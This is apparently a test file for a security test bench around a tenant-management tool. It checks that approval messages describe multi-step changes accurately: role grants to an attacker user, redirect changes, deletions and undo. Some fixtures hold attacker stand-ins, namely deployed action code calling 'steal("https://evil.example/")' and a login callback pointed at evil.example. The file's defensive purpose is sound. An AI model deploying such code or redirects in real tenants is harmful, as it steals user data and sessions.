/** Several changes in one question: each is told by what differs from the tenant as those before it leave it. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { AttackBench, type Step, step, together } from '../../security/change-attacks/attack-bench.js';
import { changes, codeOf, question, type Session, textOf } from '../../security/session.js';

let bench: AttackBench;
let session: Session;
beforeAll(async () => {
  bench = await AttackBench.start();
  session = await bench.under();
});
afterAll(() => bench.close());

describe('each step is told against what those before it leave', () => {
  const scopes = (at: Record<string, string>, ...names: string[]) => ({
    permissions: names.map((name) => ({ resource_server_identifier: at.audience, permission_name: name })),
  });
  test.each<[string, (at: Record<string, string>) => Step[], (string | RegExp)[]]>([
    [
      'a role that gets its power just before it is given',
      (at) => [
        step('add_role_permissions', { role_id: at.role, ...scopes(at, 'delete:users') }),
        step('assign_user_roles', { user_id: at.mallory, roles: [at.role] }),
      ],
      [
        /What comes with it\n {2}Role .*permissions: 1\n.*delete:users/,
        'which controls the whole tenant, come with',
      ],
    ],
    [
      'or just after it',
      (at) => [
        step('assign_user_roles', { user_id: at.mallory, roles: [at.role] }),
        step('add_role_permissions', { role_id: at.role, ...scopes(at, 'delete:users') }),
      ],
      [/What comes with it\n {2}Role .*permissions: 1\n.*delete:users/, /Held by: 1 /],
    ],
    [
      'code that is changed and then deployed',
      (at) => [
        step('update_action', { action_id: at.action, code: 'steal("https://evil.example/")' }),
        step('deploy_action', { action_id: at.action }),
      ],
      [/nothing of it runs yet\)\n {2}code: .*steal/],
    ],
    [
      'a list that drops what was just added to it',
      (at) => [
        step('update_client', { client_id: at.client, apply: 'add', callbacks: ['https://new.example/cb'] }),
        step('update_client', { client_id: at.client, apply: 'as_given', callbacks: [] }),
      ],
      [/Step 2[\s\S]*\nLost\n[\s\S]*callbacks: "https:\/\/new\.example\/cb"/],
    ],
    [
      'what is given back after it was taken',
      (at) => [
        step('remove_role_permissions', { role_id: at.power, ...scopes(at, 'delete:users') }),
        step('add_role_permissions', { role_id: at.power, ...scopes(at, 'delete:users') }),
      ],
      [
        /It gives these scopes of the Management API/,
        /Step 2[\s\S]*Permissions: 0[\s\S]*Added\n[\s\S]*delete:users/,
      ],
    ],
    [
      'what is switched off and on',
      (at) => [
        step('update_network_acl', { network_acl_id: at.acl, active: false }),
        step('update_network_acl', { network_acl_id: at.acl, active: true }),
      ],
      ['active: yes -> no', 'active: no -> yes'],
    ],
    [
      'what is wide and then narrow',
      (at) => [
        step('update_client_grant', { client_grant_id: at.grant, scope: ['read:a', 'write:a'] }),
        step('update_client_grant', { client_grant_id: at.grant, scope: ['read:a'] }),
      ],
      [/Step 2[\s\S]*Lost\n {2}scope: "write:a"/],
    ],
    [
      'a part that an earlier step makes',
      (at) => [
        step('add_organization_connection', {
          ...{
            organization_id: at.organization,
            connection_id: at.connection,
            assign_membership_on_login: false,
          },
        }),
        step('update_organization_connection', {
          ...{
            organization_id: at.organization,
            connection_id: at.connection,
            assign_membership_on_login: true,
          },
        }),
      ],
      ['assign_membership_on_login: no -> yes'],
    ],
    [
      'where people are sent, for an application that is opened to them',
      (at) => [
        step('update_connection_clients', {
          ...{ connection_id: at.connection, clients: [{ client_id: at.otherClient, status: true }] },
        }),
        step('update_client', { client_id: at.otherClient, callbacks: ['https://evil.example/cb'] }),
      ],
      ['People are sent back to: "evil.example"'],
    ],
  ])('%s', async (_name, steps, shown) => {
    await changes(bench.tenant);
    const { message } = question(await session.call('apply_changes', together(...steps(bench.at))));
    expect(await changes(bench.tenant)).toEqual([]);
    for (const part of shown) {
      if (typeof part === 'string') expect(message).toContain(part);
      else expect(message).toMatch(part);
    }
  });

  test('what was shown is what is carried out', async () => {
    const { at } = bench;
    const callbacks = (await bench.made('GET', `/clients/${at.client}`)).callbacks;
    const { outcome } = await bench.approved(
      'apply_changes',
      together(
        step('update_client', { client_id: at.client, apply: 'add', callbacks: ['https://new.example/cb'] }),
        step('update_client', { client_id: at.client, apply: 'as_given', callbacks }),
      ),
    );
    expect(codeOf(outcome), textOf(outcome).slice(0, 400)).toBe('ok');
    expect((await bench.made('GET', `/clients/${at.client}`)).callbacks).toEqual(callbacks);
  });

  test('what an earlier step deletes is not there', async () => {
    const { at } = bench;
    const outcome = await session.call(
      'apply_changes',
      together(
        step('delete_role', { role_id: at.otherRole }),
        step('update_role', { role_id: at.otherRole, name: 'q' }),
      ),
    );
    expect(codeOf(outcome)).toBe('not_found');
  });

  test('nobody is protected less by an earlier step', async () => {
    const policy = 'protected: {users: {organizations: [attack-org]}}';
    const { at } = bench;
    await bench.stopped(
      'apply_changes',
      together(
        step('remove_organization_members', { organization_id: at.organization, members: [at.victim] }),
        step('delete_user', { user_id: at.victim }),
      ),
      { policy, codes: ['target_protected', 'denied_by_policy'] },
    );
  });
});

test('an undo is told in its own order, too: what is given back and taken again', async () => {
  const { at } = bench;
  const permissions = ['read:a', 'write:a'].map((permission_name) => ({
    ...{ resource_server_identifier: 'https://attacked.example/', permission_name },
  }));
  const { outcome } = await bench.approved(
    'apply_changes',
    together(
      step('add_role_permissions', { role_id: at.role, permissions }),
      step('remove_role_permissions', { role_id: at.role, permissions }),
      step('assign_user_roles', { user_id: at.mallory, roles: [at.role] }),
    ),
  );
  const { change_id } = (outcome.kind === 'result' ? outcome.result.structuredContent : {}) as {
    change_id?: string;
  };
  const undone = await bench.approved('undo_change', { change_id });
  expect(undone.asked.message).toMatch(
    /Step 2 of 3[\s\S]*Added\n[\s\S]*write:a[\s\S]*Step 3 of 3[\s\S]*Lost\n[\s\S]*write:a/,
  );
  expect(codeOf(undone.outcome), textOf(undone.outcome).slice(0, 400)).toBe('ok');
  expect(await bench.made('GET', `/roles/${at.role}/permissions`)).toEqual([]);
});
